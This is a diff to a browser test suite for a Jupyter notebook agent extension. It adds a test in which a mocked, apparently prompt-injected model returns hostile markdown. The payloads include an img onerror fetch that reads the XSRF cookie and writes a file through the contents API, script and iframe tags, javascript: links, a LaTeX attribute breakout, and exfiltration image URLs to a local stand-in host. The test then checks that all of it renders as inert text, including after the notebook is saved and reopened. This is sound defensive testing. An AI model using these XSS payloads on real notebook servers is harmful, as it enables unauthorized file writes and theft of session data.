@@ -170,6 +170,7 @@ class LabSession:
     artifacts: Path
     timings: dict[str, float] = field(default_factory=dict)
     console: list[str] = field(default_factory=list)
+    requests: list[tuple[str, str]] = field(default_factory=list)  # (method, url) of the page
 
     def screenshot(self, name: str, selector: str | None = None) -> Path:
         path = self.artifacts / name
@@ -237,6 +238,7 @@ def _lab(
         session.timings["jupyterlab_and_browser_up"] = time.monotonic() - started
         page.on("console", lambda m: _record_console(session, m.type, m.text))
         page.on("pageerror", lambda e: session.console.append(f"pageerror: {e}"))
+        page.on("request", lambda r: session.requests.append((r.method, r.url)))
         try:
             _open_and_run_all(session)
         except Exception:
@@ -281,10 +283,14 @@ def _record_console(session: LabSession, kind: str, text: str) -> None:
 def _wait_for_kernel(lab: JupyterLab, timeout: float) -> None:
     """The server's view: a kernel with the browser's websocket attached, idle."""
     deadline = time.monotonic() + timeout
-    kernels: list[dict[str, Any]] = []
+    kernels: Any = []
     while time.monotonic() < deadline:
+        # Under load the server sometimes answers with an error object (a dict) instead
+        # of the list: not ready yet, ask again.
         kernels = httpx.get(lab.url("api/kernels"), timeout=5).json()
-        if any(k["connections"] >= 1 and k["execution_state"] == "idle" for k in kernels):
+        if isinstance(kernels, list) and any(
+            k["connections"] >= 1 and k["execution_state"] == "idle" for k in kernels
+        ):
             return
         time.sleep(0.2)  # polling interval
     raise AssertionError(f"no idle, connected kernel in {timeout}s: {kernels}")
@@ -573,3 +579,148 @@ def test_a_tool_cut_short_by_a_dead_kernel_shows_as_interrupted(
     widget.scroll_into_view_if_needed()
     s.screenshot("browser-recovery.png")
     s.screenshot("browser-recovery-cells.png", ".jp-NotebookPanel .jp-WindowedPanel-viewport")
+
+
+# ---------------------------------------------------------------- a hostile model
+
+# What a prompt-injected model might answer: each line would run script, make a request
+# or plant a live link in a trusted output (and again when the saved notebook is opened:
+# Jupyter signs a notebook whose outputs it trusts). The fetch writes pwned.txt through
+# the contents API with the page's XSRF cookie, as an attack would.
+ATTACK_JS = (
+    "window.__pwned=1;fetch('/api/contents/pwned.txt',{method:'PUT',headers:{'X-XSRFToken':"
+    "document.cookie.split('_xsrf=')[1].split(';')[0],'Content-Type':'application/json'},"
+    "body:JSON.stringify({type:'file',format:'text',content:'pwned'})})"
+)
+HOSTILE_ANSWER = "\n\n".join(
+    [
+        f'Summary. <img src=x onerror="{ATTACK_JS}">',
+        "<script>window.__pwned='script'</script>",
+        "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>",
+        "[click me](javascript:window.__pwned='link') and [ref link][r]",
+        "[r]: javascript:window.__pwned='reference'",
+        "![exfil](http://127.0.0.1:9/exfil.png?secret=1) ![svg](data:image/svg+xml,x)",
+        "$\\href{javascript:window.__pwned='math'}{math link}$ "
+        "$\\style{background:url(http://127.0.0.1:9/exfil-css.png)}{styled}$",
+        "- a list item\n\n  ```\n  <b>bold in code</b>\n  ```",
+        # JupyterLab puts LaTeX back after markdown, quotes unescaped: inside an attribute
+        "![$\" onerror=\"window.__pwned='alt'//$](plot.png) "
+        "[quoted](https://example.com/$\" onmouseover=\"window.__pwned='href'//$)",
+    ]
+)
+HOSTILE_PATH = (
+    "<img src=y onerror=\"window.__pwned='tool'\"> javascript://%0Awindow.__pwned='toollink'"
+)
+SHOWN_AS_TEXT = (
+    "Summary. <img src=x onerror=",
+    "<script>window.__pwned='script'</script>",
+    "<iframe src=",
+    "click me",
+    "<b>bold in code</b>",
+    "window.__pwned='tool'",  # the tool's argument, in the tool line and the timeline
+)
+UNSAFE_HREF = re.compile(r"^\s*(javascript|data|vbscript|file):", re.IGNORECASE)
+
+
+@pytest.fixture(scope="module")
+def hostile_session(tmp_path_factory: pytest.TempPathFactory, browser: Any) -> Iterator[LabSession]:
+    base = tmp_path_factory.mktemp("browser-hostile")
+    root = base / "root"
+    root.mkdir()
+    notebook = {
+        "cells": [
+            _code_cell(0, "%load_ext tiny_agent_nb"),
+            _code_cell(1, "%%agent\nSummarise this directory."),
+            _code_cell(2, "%agent timeline"),
+        ],
+        "metadata": {
+            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
+        },
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
+    path = root / "hostile.ipynb"
+    path.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
+    with OpenAIServer() as server:
+        server.enqueue(
+            tool_calls_reply(tool_call("call_0", "list_files", {"path": HOSTILE_PATH})),
+            text_reply(HOSTILE_ANSWER),
+        )
+        with _lab(base, path, [], [], server, browser) as session:
+            yield session
+
+
+def test_a_hostile_answer_shows_as_text_and_runs_nothing_also_after_reopening(
+    hostile_session: LabSession,
+) -> None:
+    s = hostile_session
+    with screenshot_on_failure(s, "browser-hostile-failure.png"):
+        answer = s.page.locator(".jp-RenderedMarkdown", has_text="click me")
+        answer.wait_for(state="visible")
+        _check_inert(s, answer)
+        s.screenshot("browser-hostile.png")
+
+        # Save (Jupyter signs the notebook, so its outputs are trusted when reopened),
+        # then open it again from disk.
+        s.page.locator("#jp-MainMenu .lm-MenuBar-item", has_text=re.compile(r"^File$")).click()
+        s.page.locator('.lm-Menu-item[data-command="docmanager:save"]').click()
+        saved = _wait_for_saved_answer(s.notebook)
+        assert "<img" not in saved and "](javascript:" not in saved, saved
+        s.page.reload()
+        answer = s.page.locator(".jp-RenderedMarkdown", has_text="click me")
+        answer.wait_for(state="visible")
+        # the reopened output is trusted: raw HTML in it would run
+        assert "jp-mod-trusted" in (answer.get_attribute("class") or "")
+        _check_inert(s, answer)
+        s.screenshot("browser-hostile-reopened.png")
+
+
+def _check_inert(s: LabSession, answer: Any) -> None:
+    page = s.page
+    # An absence cannot be polled: give an onerror handler and its fetch the time they
+    # take (milliseconds) before checking that they did not happen.
+    page.wait_for_timeout(1_000)
+    assert page.evaluate("() => window.__pwned") is None
+    assert not (s.root / "pwned.txt").exists()
+    attacks = [r for r in s.requests if "pwned" in r[1] or "exfil" in r[1]]
+    assert attacks == [], attacks
+    # nothing of it became an element or a live link
+    found = page.locator(".jp-Notebook").evaluate(
+        """n => ({
+          elements: n.querySelectorAll('script, iframe, object, embed').length,
+          images: [...n.querySelectorAll('img')].map(i => i.getAttribute('src')),
+          handlers: [...n.querySelectorAll('*')].flatMap(
+            e => e.getAttributeNames().filter(a => a.startsWith('on'))),
+          hrefs: [...n.querySelectorAll('[href], [src], [xlink\\\\:href]')].map(
+            e => e.getAttribute('href') || e.getAttribute('src') || e.getAttribute('xlink:href')),
+          linked: [...n.querySelectorAll('a')].filter(a => a.textContent.includes('click')).length,
+        })"""
+    )
+    assert found["elements"] == 0, found
+    assert found["handlers"] == [], found
+    # the one image kept is the relative one, served by JupyterLab from beside the notebook
+    kept = [src.split("?")[0] for src in found["images"]]
+    assert kept == [f"http://127.0.0.1:{s.lab.port}/files/plot.png"], found
+    assert not [h for h in found["hrefs"] if h and UNSAFE_HREF.match(h)], found
+    assert found["linked"] == 0, found
+    # the model's markup is there to read, as text
+    text = s.notebook_text()
+    for shown in SHOWN_AS_TEXT:
+        assert shown in text, f"{shown!r} is not shown; the notebook shows:\n{text}"
+    assert answer.locator("pre code", has_text="<b>bold in code</b>").count() == 1
+
+
+def _wait_for_saved_answer(path: Path, timeout: float = 30.0) -> str:
+    """The answer's text/markdown as saved on disk, once the save has written it."""
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
+        markdown = [
+            "".join(o["data"]["text/markdown"])
+            for o in cells[1].get("outputs", [])
+            if "text/markdown" in o.get("data", {})
+        ]
+        if markdown:
+            return markdown[-1]
+        time.sleep(0.2)  # polling interval
+    raise AssertionError(f"{path.name} was not saved with the answer in {timeout}s")
